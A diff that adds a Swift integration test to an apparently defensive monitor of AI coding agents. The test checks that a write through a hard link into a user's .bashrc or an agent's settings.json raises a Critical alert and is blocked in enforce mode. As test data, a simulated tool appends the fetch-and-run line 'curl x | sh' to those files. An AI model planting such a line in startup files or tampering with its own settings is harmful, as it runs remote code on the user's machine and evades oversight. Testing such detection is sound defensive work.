@@ -104,6 +104,31 @@ struct IdentityIntegrationTests {
         #expect(!held.isEmpty || !renames.isEmpty)
     }
 
+    @Test("a startup or agent settings file written through a hard link made before start: Critical in audit, not one byte written in enforce",
+          arguments: ["home/.bashrc", "home/.claude/settings.json"], [[String](), ["--enforce"]])
+    func writeThroughLink(_ target: String, _ mode: [String]) throws {
+        let h = try WardenHarness()
+        try FileManager.default.createDirectory(atPath: h.path("home/.claude"), withIntermediateDirectories: true)
+        let original = "# the user's own file\n"
+        try h.write(target, original)
+        #expect(link(h.path(target), h.path("rc.txt")) == 0)
+        try h.write("tool.sh", (mode.isEmpty ? "sleep 0.5\n" : "") + "echo 'curl x | sh' >> rc.txt\n")
+        try h.write("agent.sh", "sh tool.sh > tool-output 2>&1\necho $? > status\necho agent-done\n")
+        let result = try h.run(["env", "HOME=\(h.path("home"))", "sh", "agent.sh"], extra: mode + ["--name", "claude-code"], timeout: 120)
+        #expect(result.status == 0, "\(result.stderr)")
+        let alert = try #require(result.events.ofType("alert").first { $0.string("rule") == "guarded-file-written-through-another-name" },
+                                 "\(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
+        #expect(alert.string("priority") == "Critical")
+        #expect(alert.string("output")?.contains(h.path("rc.txt")) == true && alert.string("output")?.contains(h.path(target)) == true)
+        let content = try String(contentsOfFile: h.path(target), encoding: .utf8)
+        if mode.isEmpty {
+            #expect(content.contains("curl x | sh"), "audit mode lets the write happen")
+        } else {
+            #expect(content == original, "the write never happened: \(content)")
+            #expect((alert["warden"] as? [String: Any])?["mechanism"] as? String == "hold-kill")
+        }
+    }
+
     @Test("benign work stays below Warning and runs under --enforce: reading workspace files, git, creating files",
           arguments: [[], ["--enforce"]])
     func benign(_ mode: [String]) throws {
